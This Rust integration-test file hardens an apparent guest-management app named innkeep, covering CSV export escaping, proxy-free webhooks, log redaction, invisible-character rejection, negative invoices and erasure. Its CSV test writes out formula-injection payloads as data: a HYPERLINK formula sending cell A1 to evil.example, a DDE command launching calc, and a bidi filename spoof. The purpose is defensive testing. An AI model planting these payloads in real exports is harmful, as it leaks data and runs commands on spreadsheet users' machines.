//! What innkeep writes and sends, hardened: CSV exports carry no live spreadsheet formula and
//! still import exactly into another innkeep; webhooks ignore proxy variables in the
//! environment; a trace-level log never dumps what the HTTP client sends; names refuse
//! invisible bidi and zero-width characters; a negative "invoice" is refused; an erased
//! guest's name leaves the cursor bookkeeping too.

use std::time::Duration;

use serde_json::json;

use crate::support::binary::{cli_token, free_port, innkeep, serve_log, terminate};
use crate::support::receiver::Receiver;
use crate::support::spawn_app;

fn cli(dir: &std::path::Path, args: &[&str]) -> (bool, String, String) {
    let out = innkeep(dir).args(args).output().unwrap();
    let text = |b: Vec<u8>| String::from_utf8(b).unwrap();
    (out.status.success(), text(out.stdout), text(out.stderr))
}

/// The last names in an export, as the file has them.
fn last_names(csv: &str) -> Vec<String> {
    let mut r = csv::Reader::from_reader(csv.as_bytes());
    let at = r
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == "last_name")
        .unwrap();
    let mut names: Vec<String> = r
        .records()
        .map(|rec| rec.unwrap()[at].to_string())
        .collect();
    names.sort();
    names
}

#[test]
fn exports_carry_no_formula_and_import_back_exactly() {
    let (a, b) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    for d in [&a, &b] {
        assert!(cli(d.path(), &["migrate"]).0);
    }
    let typed = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Invoice\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-2+3",
        "'t Hart",
        "'=already quoted",
    ];
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(["external_id", "first_name", "last_name"])
        .unwrap();
    for (i, t) in typed.iter().enumerate() {
        w.write_record([format!("X{i}").as_str(), "Guest", t])
            .unwrap();
    }
    let file = a.path().join("in.csv");
    std::fs::write(&file, w.into_inner().unwrap()).unwrap();
    let (ok, out, err) = cli(a.path(), &["import", "guests", file.to_str().unwrap()]);
    assert!(ok, "{out}{err}");

    let (ok, exported, err) = cli(a.path(), &["export", "guests"]);
    assert!(ok, "{err}");
    for cell in last_names(&exported) {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a spreadsheet would run {cell:?}"
        );
    }
    assert!(exported.contains("'=HYPERLINK"), "{exported}");
    assert!(
        exported.contains(",'t Hart"),
        "a name is left as it is: {exported}"
    );

    let moved = a.path().join("out.csv");
    std::fs::write(&moved, &exported).unwrap();
    let (ok, out, err) = cli(b.path(), &["import", "guests", moved.to_str().unwrap()]);
    assert!(ok, "{out}{err}");
    let (_, again, _) = cli(b.path(), &["export", "guests"]);
    assert_eq!(
        last_names(&again),
        last_names(&exported),
        "lossless both ways"
    );
    let stored = |dir: &std::path::Path| {
        let db = rusqlite::Connection::open(dir.join("innkeep.sqlite3")).unwrap();
        let mut names: Vec<String> = db
            .prepare("SELECT last_name FROM guests")
            .unwrap()
            .query_map([], |r| r.get(0))
            .unwrap()
            .map(Result::unwrap)
            .collect();
        names.sort();
        names
    };
    assert_eq!(
        stored(b.path()),
        stored(a.path()),
        "the second innkeep holds what the first did"
    );
    // What a spreadsheet marks as text with a leading ' is read as the text itself.
    let mut expected: Vec<String> = typed
        .iter()
        .map(|t| {
            t.strip_prefix("'=")
                .map_or(t.to_string(), |rest| format!("={rest}"))
        })
        .collect();
    expected.sort();
    assert_eq!(stored(a.path()), expected);
}

/// A TCP listener that counts the connections made to it (a proxy nobody should use).
fn trap() -> (String, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", l.local_addr().unwrap());
    let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counted = hits.clone();
    std::thread::spawn(move || {
        for s in l.incoming() {
            counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            drop(s);
        }
    });
    (url, hits)
}

#[tokio::test(flavor = "multi_thread")]
async fn webhooks_ignore_proxy_variables_and_trace_logs_hold_no_wire_dump() {
    let home = tempfile::tempdir().unwrap();
    let dir = home.path().join("data");
    assert!(cli(&dir, &["migrate"]).0);
    let (proxy, proxied) = trap();
    let port = free_port();
    let mut child = {
        let log = std::fs::File::create(dir.join("serve.log")).unwrap();
        innkeep(&dir)
            .args(["serve", "--listen", &format!("127.0.0.1:{port}")])
            .env("HTTP_PROXY", &proxy)
            .env("http_proxy", &proxy)
            .env("ALL_PROXY", &proxy)
            .env("INNKEEP_LOG__LEVEL", "trace")
            .env("INNKEEP_LOG__FORMAT", "json")
            .stdout(std::process::Stdio::null())
            .stderr(log)
            .spawn()
            .unwrap()
    };
    crate::support::binary::wait_healthy(port).await;
    let token = cli_token(&dir, port, "webhooks:manage guests:write").await;
    let receiver = Receiver::start().await;
    let http = reqwest::Client::new();
    let base = format!("http://127.0.0.1:{port}/v1");
    let r = http
        .post(format!("{base}/webhooks"))
        .bearer_auth(&token)
        .json(&json!({"url": receiver.url("/hook"), "events": ["guest.created"]}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 201, "{}", r.text().await.unwrap());
    let r = http
        .post(format!("{base}/guests"))
        .bearer_auth(&token)
        .json(&json!({"first_name": "Proxy", "last_name": "Free"}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 201);
    let hits = receiver.wait_for(1, Duration::from_secs(20)).await;
    assert_eq!(hits.len(), 1, "delivered straight to the receiver");
    assert_eq!(
        proxied.load(std::sync::atomic::Ordering::SeqCst),
        0,
        "not to the proxy"
    );
    terminate(&mut child);
    let log = serve_log(&dir);
    assert!(log.contains("\"level\":\"DEBUG\""), "the log is verbose");
    let dumps: Vec<&str> = log
        .lines()
        .filter(|l| l.contains("\"target\":\"ureq_proto"))
        .collect();
    assert!(
        dumps.is_empty(),
        "the wire is never dumped: {:?}",
        &dumps[..dumps.len().min(3)]
    );
    assert!(!log.contains(&token), "no bearer token in the log");
}

#[tokio::test(flavor = "multi_thread")]
async fn invisible_characters_and_negative_invoices_are_refused() {
    let app = spawn_app().await;
    for name in [
        "Maria\u{202e}txt.exe",
        "\u{200b}",
        "Ana\u{200d}Marija",
        "Ivo\u{2066}",
        "\u{feff}Luka",
    ] {
        let r = app
            .post(
                "/v1/guests",
                json!({"first_name": name, "last_name": "Horvat"}),
            )
            .await
            .expect(422);
        assert_eq!(r.body["errors"][0]["field"], "first_name", "{}", r.text);
        assert_eq!(r.body["errors"][0]["code"], "invalid_characters");
    }
    let g = app.guest("Mia", "Novak").await;
    let r = app
        .post(
            "/v1/invoices",
            json!({"guest_id": g, "payment_method": "cash",
                   "lines": [{"description": "Refund", "quantity": 1, "unit_price": -5000}]}),
        )
        .await
        .expect(422);
    assert_eq!(r.body["errors"][0]["field"], "lines", "{}", r.text);
    assert_eq!(r.body["errors"][0]["code"], "negative_total");
    assert!(r.text.contains("credit note"), "{}", r.text);
    let none = app.get("/v1/invoices").await.expect(200);
    assert_eq!(
        none.body["data"].as_array().unwrap().len(),
        0,
        "nothing was issued"
    );
    // An allowance within a positive sale is fine.
    app.post(
        "/v1/invoices",
        json!({"guest_id": g, "payment_method": "cash",
               "lines": [{"description": "Dinner", "quantity": 1, "unit_price": 6000},
                         {"description": "Discount", "quantity": 1, "unit_price": -1000}]}),
    )
    .await
    .expect(201);
}

#[tokio::test(flavor = "multi_thread")]
async fn an_erased_guests_name_leaves_the_cursor_bookkeeping() {
    let app = spawn_app().await;
    let g = app.guest("Zvonimir", "Zrinski").await;
    app.put_if(
        &format!("/v1/guests/{g}"),
        "\"1\"",
        json!({"last_name": "Frankopan"}),
    )
    .await
    .expect(200);
    let svc = innkeep::service::Services::new(
        app.db().clone(),
        innkeep::compliance::Compliance::default(),
    );
    let admin = innkeep::model::Principal::system(innkeep::model::Actor {
        kind: innkeep::domain::enums::ActorKind::Staff,
        id: "usr_test".into(),
        name: "test".into(),
    });
    innkeep::service::privacy::erase(&svc, &admin, g.clone())
        .await
        .unwrap();
    let path = app.dir.as_ref().unwrap().path().join("innkeep.sqlite3");
    let kept: Vec<String> = tokio::task::spawn_blocking(move || {
        let c = rusqlite::Connection::open(path).unwrap();
        c.prepare("SELECT old_key FROM list_moves")
            .unwrap()
            .query_map([], |r| r.get(0))
            .unwrap()
            .map(Result::unwrap)
            .collect()
    })
    .await
    .unwrap();
    let all = kept.join(" | ").to_lowercase();
    assert!(
        !all.contains("zrinski") && !all.contains("frankopan") && !all.contains("zvonimir"),
        "{all}"
    );
}
